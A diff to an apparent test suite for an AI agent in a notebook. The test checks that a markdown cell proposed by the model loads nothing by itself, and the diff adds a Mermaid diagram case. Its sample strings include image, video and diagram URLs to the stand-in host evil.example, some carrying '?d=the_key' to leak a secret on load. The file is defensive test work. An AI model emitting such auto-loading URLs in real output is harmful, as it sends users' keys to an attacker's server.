@@ -99,7 +99,8 @@ def test_a_proposed_markdown_cell_loads_nothing_by_itself(notebook: Notebook) ->
         "Found it: ![chart](https://evil.example/c.png?d=the_key) and ![r][ref] "
         '<img src="https://evil.example/x"> <video poster="https://evil.example/p">\n'
         "Escaped stays: \\![not an image](x), code `a < b`, a link <https://example.org>.\n\n"
-        "[ref]: https://evil.example/r.png"
+        "[ref]: https://evil.example/r.png\n\n"
+        '> ~~~ Mermaid\n> flowchart TD\n>   A@{ img: "https://evil.example/m.png?d=the_key" }\n> ~~~\n'
     )
     notebook.session.configure(model=scripted(propose("markdown", note), "Done."))
     cell = notebook.run("%%agent --cells\npropose a note")
@@ -109,6 +110,7 @@ def test_a_proposed_markdown_cell_loads_nothing_by_itself(notebook: Notebook) ->
     assert "\\![r][ref]" in shown and "\\![not an image](x)" in shown
     assert "&lt;img" in shown and "&lt;video" in shown and "<img" not in shown
     assert "<https://example.org>" in shown and "a < b" in shown
+    assert "> ~~~ text Mermaid\n> flowchart TD" in shown  # the diagram's source, not a diagram
 
 
 def test_at_most_ten_per_turn_the_eleventh_is_refused(notebook: Notebook) -> None:
